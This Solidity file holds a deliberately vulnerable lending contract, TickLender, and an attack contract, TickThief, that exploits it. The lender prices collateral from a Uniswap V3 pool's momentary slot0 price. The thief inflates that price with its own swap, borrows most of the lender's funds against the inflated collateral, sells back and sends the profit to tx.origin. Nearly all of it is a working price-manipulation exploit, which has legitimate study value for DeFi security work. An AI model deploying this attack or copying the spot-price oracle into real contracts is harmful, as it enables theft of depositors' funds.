// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {IToken} from "./Markets.sol";
import {IRange} from "./Ranges.sol";

interface ITicked is IRange {
    function slot0() external view returns (uint160, int24, uint16, uint16, uint16, uint8, bool);
}

/// Lends the pool's second token against its first, by the pool's price of this moment.
contract TickLender {
    ITicked public immutable pool;
    mapping(address => uint256) public pledged;
    mapping(address => uint256) public owed;

    constructor(ITicked pool_) {
        pool = pool_;
    }

    function valueOf(uint256 amount) public view returns (uint256) {
        (uint160 root, , , , , , ) = pool.slot0();
        uint256 price = (uint256(root) * 1e9) >> 96;
        return (amount * price * price) / 1e18;
    }

    function pledge(uint256 amount) external {
        pledged[msg.sender] += amount;
        require(pool.token0().transferFrom(msg.sender, address(this), amount));
    }

    function borrow(uint256 amount) external {
        owed[msg.sender] += amount;
        require(owed[msg.sender] <= (valueOf(pledged[msg.sender]) * 3) / 4, "not covered");
        require(pool.token1().transfer(msg.sender, amount));
    }
}

/// Lifts the price of a Uniswap V3 pool with its own money, borrows against it, and sells back.
contract TickThief {
    uint160 private constant LOWEST = 4295128740;
    uint160 private constant HIGHEST = 1461446703485210103287273052203988822378723970341;

    function own_lift(ITicked pool, TickLender lender, uint256 amount) external {
        pool.swap(address(this), false, int256(amount), HIGHEST, "");
        uint256 loan = (pool.token1().balanceOf(address(lender)) * 95) / 100;
        uint256 needed = ((loan * 4 * 1e18) / 3) / lender.valueOf(1e18) + 1e12;
        pool.token0().approve(address(lender), needed);
        lender.pledge(needed);
        lender.borrow(loan);
        pool.swap(address(this), true, int256(pool.token0().balanceOf(address(this))), LOWEST, "");
        pool.token1().transfer(tx.origin, pool.token1().balanceOf(address(this)));
    }

    function uniswapV3SwapCallback(int256 first, int256 second, bytes calldata) external {
        if (first > 0) ITicked(msg.sender).token0().transfer(msg.sender, uint256(first));
        if (second > 0) ITicked(msg.sender).token1().transfer(msg.sender, uint256(second));
    }
}
